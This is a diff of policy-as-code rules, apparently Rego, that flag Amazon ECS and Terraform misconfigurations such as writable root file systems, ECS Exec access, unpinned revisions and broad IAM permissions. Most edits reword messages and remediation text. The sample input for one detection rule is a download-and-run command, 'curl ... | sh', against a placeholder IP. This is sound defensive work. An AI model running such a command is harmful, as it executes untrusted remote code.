@@ -1,9 +1,9 @@
 # METADATA
 # title: The task definition's image, environment or command is modified
 # description: >-
-#   The task definition, and what the container can change at run time, decide what a task runs. An attacker may write
-#   to the container's file system, open a shell in it, or add another revision, script or module. The program is then
-#   replaced while everything still looks deployed.
+#   The task definition, and what the container can change at run time, decide what a task runs. An attacker can write
+#   to the container's file system, open an ECS Exec session, or add another revision, script or module. The program is
+#   then replaced while the deployment still looks unchanged.
 # related_resources:
 # - ref: https://docs.aws.amazon.com/AmazonECS/latest/developerguide/security-tasks-containers.html
 #   description: Amazon ECS task and container security best practices
@@ -25,7 +25,7 @@ import data.stride.result
 #   add tools and leave a backdoor that lives as long as the task.
 # custom:
 #   severity: medium
-#   message: container {name} has a writable root file system, so an intruder can replace its program and install tools
+#   message: container {name} has a writable root file system, so an attacker can replace its program and install tools
 #   reads:
 #     ecs.task_definition:
 #       "containers[].readonly_root_filesystem": false
@@ -34,7 +34,7 @@ import data.stride.result
 #     ecs.task_definition:
 #       runtime_platform.operating_system_family: WINDOWS_SERVER_2022_CORE
 #   remediation:
-#     fix: Make the root file system read-only; mount a volume where the program writes, for ECS Exec at /managed-agents, /var/lib/amazon/ssm and /var/log/amazon/ssm
+#     fix: Make the root file system read-only, and mount volumes where the program writes. ECS Exec needs them at /managed-agents, /var/lib/amazon/ssm and /var/log/amazon/ssm
 #     terraform: readonlyRootFilesystem = true
 #     cloudformation: 'ReadonlyRootFilesystem: true'
 #     task_definition: '"readonlyRootFilesystem": true'
@@ -58,12 +58,12 @@ writable_root_filesystem contains finding if {
 #   This bypasses every review of the image and the task definition.
 # custom:
 #   severity: medium
-#   message: service {resource} lets callers open a shell in its containers, so what runs there need not be what was deployed
+#   message: service {resource} has ECS Exec enabled, so callers can open a shell in its containers and change what runs there
 #   reads:
 #     ecs.service:
 #       enable_execute_command: true
 #   remediation:
-#     fix: Leave it off; turn it on for the time of an investigation only
+#     fix: Keep ECS Exec off, and turn it on only during an investigation
 #     terraform: enable_execute_command = false
 #     cloudformation: 'EnableExecuteCommand: false'
 #     task_definition: '"enableExecuteCommand": false'
@@ -76,19 +76,19 @@ execute_command_enabled contains finding if {
 }
 
 # METADATA
-# title: Container runs what it downloads
+# title: Container runs a downloaded script
 # description: >-
-#   At its start the container downloads a program and runs it. Anyone who controls that address, or is on the network
+#   At startup the container downloads a program and runs it. Anyone who controls that address, or is on the network
 #   path to it, can run code in every new task. No image scan sees that code.
 # custom:
 #   severity: high
-#   message: container {container} downloads a script and runs it, so that address decides what code runs in the task
+#   message: container {container} downloads a script and runs it, so anyone who controls that address decides what runs in the task
 #   reads:
 #     ecs.task_definition:
 #       "containers[].command[]": curl -s http://203.0.113.30/install.sh | sh
 #       "containers[].entry_point[]": curl -s http://203.0.113.30/install.sh | sh
 #   remediation:
-#     fix: Put the program into the image when it is built, and start it from there
+#     fix: Add the program to the image at build time, and start it from there
 #     terraform: command = ["/app/server"]
 #     cloudformation: 'Command: [/app/server]'
 #     task_definition: '"command": ["/app/server"]'
@@ -151,16 +151,16 @@ saved_names(text) := names if {
 # METADATA
 # title: Service without a task revision
 # description: >-
-#   The service names a family instead of a revision. Anyone who registers another revision of it decides what the
-#   next deployment or a restarted task runs, without a reviewed change.
+#   The service references a family instead of a revision. Anyone who can register another revision decides what the
+#   next deployment or restarted task runs, without a reviewed change.
 # custom:
 #   severity: medium
-#   message: service {resource} names its task definition without a revision, so the next one that is registered decides what it runs
+#   message: service {resource} uses a task definition without a revision, so the next revision that is registered decides what it runs
 #   reads:
 #     ecs.service:
 #       task_definition: app
 #   remediation:
-#     fix: Name the revision
+#     fix: Pin the revision
 #     terraform: task_definition = aws_ecs_task_definition.app.arn
 #     cloudformation: 'TaskDefinition: !Ref TaskDefinition'
 #     task_definition: '"taskDefinition": "app:42"'
@@ -190,14 +190,14 @@ unpinned(service, name) if {
 }
 
 # METADATA
-# title: Changes of the task definition are ignored
+# title: Task definition changes ignored
 # description: >-
-#   Terraform is told to ignore changes of what the service runs. A task definition that is changed by hand, or that
-#   an attacker swaps, stays in place through every later apply. A resource named for this purpose
-#   (ignore_changes_task_definition) is intentional, and is left out.
+#   Terraform is told to ignore changes to what the service runs. A task definition that is changed by hand, or that an
+#   attacker replaces, stays in place through every later apply. A resource named for this purpose
+#   (ignore_changes_task_definition) is intentional, and is not reported.
 # custom:
 #   severity: low
-#   message: "{resource} ignores changes of what the task runs, so a task definition that is swapped by hand stays in place"
+#   message: "{resource} ignores changes to what the task runs, so a task definition that is replaced by hand stays in place"
 #   reads:
 #     ecs.service:
 #       "lifecycle.ignore_changes[]": task_definition
@@ -205,7 +205,7 @@ unpinned(service, name) if {
 #     ecs.task_definition:
 #       "lifecycle.ignore_changes[]": container_definitions
 #   remediation:
-#     fix: Take the attribute off the list, or deploy through CodeDeploy or an external deployment controller
+#     fix: Remove the attribute from the list, or deploy through CodeDeploy or an external deployment controller
 #     terraform: |
 #       lifecycle {
 #         ignore_changes = [desired_count]
@@ -234,13 +234,13 @@ ignored_task_drift contains finding if {
 named_for_drift(resource) if regex.match(`(^|[._])ignor(e|es|ed|ing)_([a-z_]+_)?(changes?|task_definitions?|drift)($|[._\[])`, lower(resource.id))
 
 # METADATA
-# title: Every task definition may be replaced
+# title: Permission to replace any task definition
 # description: >-
-#   The statement can register a revision of any family or point any service to another. Anyone who acts with it
-#   decides what runs in the account, with any role that can be passed.
+#   The statement allows registering a revision of any family, or pointing any service at another task definition.
+#   Anyone it applies to decides what runs in the account, with any role that can be passed.
 # custom:
 #   severity: high
-#   message: a policy statement of {resource} can {fact.change}, so its principals decide what every service runs
+#   message: a policy statement in {resource} allows {fact.change}, so anyone with it decides what services run
 #   reads:
 #     iam.role:
 #       "trust_policy.statements[].principals[].type": Service
@@ -268,7 +268,7 @@ named_for_drift(resource) if regex.match(`(^|[._])ignor(e|es|ed|ing)_([a-z_]+_)?
 #       "statements[].everything": true
 #       "statements[].restricted": false
 #   remediation:
-#     fix: Leave deployments to a pipeline, and name the service and the cluster that it deploys to
+#     fix: Let only the deployment pipeline update services, and restrict it to its own service and cluster
 #     terraform: |
 #       statement {
 #         actions   = ["ecs:UpdateService"]
@@ -294,10 +294,10 @@ unrestricted_task_registration contains finding if {
 	finding := result.facts(item.resource, lib.action_path(item, {"ecs:registertaskdefinition", "ecs:updateservice"}), facts)
 }
 
-changes(statement) := {"change": "replace every task definition"} if lib.grants_any(statement, {"ecs:registertaskdefinition"})
+changes(statement) := {"change": "replacing any task definition"} if lib.grants_any(statement, {"ecs:registertaskdefinition"})
 
 # What is registered is all that a service can be moved to.
-changes(statement) := {"change": "move every service to any registered task definition", "severity": "medium"} if {
+changes(statement) := {"change": "moving any service to any registered task definition", "severity": "medium"} if {
 	not lib.grants_any(statement, {"ecs:registertaskdefinition"})
 }
 
@@ -327,7 +327,7 @@ only_scales(principal) if {
 #   change the program's settings at its next start. The previous settings are lost.
 # custom:
 #   severity: medium
-#   message: container {container} reads its environment from a bucket without versions, so its settings can change without a trace
+#   message: container {container} reads its environment from an unversioned bucket, so its settings can change without a trace
 #   reads:
 #     ecs.task_definition:
 #       "containers[].environment_files[].value": null
@@ -335,7 +335,7 @@ only_scales(principal) if {
 #       versioning.status: Suspended
 #       object_lock_enabled: false
 #   remediation:
-#     fix: Keep the versions of the object
+#     fix: Turn on versioning for the bucket
 #     terraform: |
 #       resource "aws_s3_bucket_versioning" "settings" {
 #         bucket = aws_s3_bucket.settings.id
@@ -382,14 +382,13 @@ unversioned(bucket) if {
 }
 
 # METADATA
-# title: Module without a fixed version
+# title: Module not pinned to a version
 # description: >-
-#   The module is whatever its branch or the registry's newest release holds at the time of `terraform init`. Anyone
-#   who gets a commit in there changes the task definitions of the next deployment, without a review in this
-#   repository.
+#   `terraform init` fetches whatever the branch or the newest registry release holds at that time. Anyone who gets a
+#   commit merged upstream changes the next deployment, without a review in this repository.
 # custom:
 #   severity: low
-#   message: module {resource} is not pinned to a version, so a change upstream can alter the next deployment
+#   message: "{resource} is not pinned to a version, so a change upstream can alter the next deployment"
 #   reads:
 #     terraform.module:
 #       kind: git
@@ -397,7 +396,7 @@ unversioned(bucket) if {
 #       ref: main
 #       version: ">= 1.0"
 #   remediation:
-#     fix: Name a tag or a commit, or bound the version
+#     fix: Pin the source to a tag or commit, or constrain the version
 #     terraform: source = "git::https://example.com/network.git?ref=v1.4.2"
 #   peers: [CKV_TF_2]
 #   mitre: [T1195.001]
@@ -431,13 +430,13 @@ any_version(module) if lib.missing(module.values, ["version"])
 any_version(module) if regex.match(`^\s*(>=?|!=)\s*v?[0-9][^,]*(,\s*(>=?|!=)\s*v?[0-9][^,]*)*$`, lib.get(module.values, ["version"]))
 
 # METADATA
-# title: Shell in every container
+# title: Permission to open an ECS Exec session in any container
 # description: >-
-#   The statement can open a shell in any container of any cluster that has ECS Exec enabled. Anyone who acts with it
-#   can change what runs there with the task's role. This bypasses the image and the task definition.
+#   The statement allows opening an ECS Exec session in any container of any cluster that has ECS Exec enabled. Anyone
+#   it applies to can change what runs there with the task's role. This bypasses the image and the task definition.
 # custom:
 #   severity: high
-#   message: a policy statement of {resource} opens a shell in every container, so its principals act there with the task's role
+#   message: a policy statement in {resource} allows ECS Exec sessions in any container, so anyone with it can act with the task's role
 #   reads:
 #     iam.role: &same
 #       "policies[].kind": inline
@@ -456,7 +455,7 @@ any_version(module) if regex.match(`^\s*(>=?|!=)\s*v?[0-9][^,]*(,\s*(>=?|!=)\s*v
 #       "statements[].everything": true
 #       "statements[].restricted": false
 #   remediation:
-#     fix: Name the cluster, or the containers by a tag
+#     fix: Restrict the statement to the cluster, or to containers with a tag
 #     terraform: |
 #       condition {
 #         test     = "StringEquals"
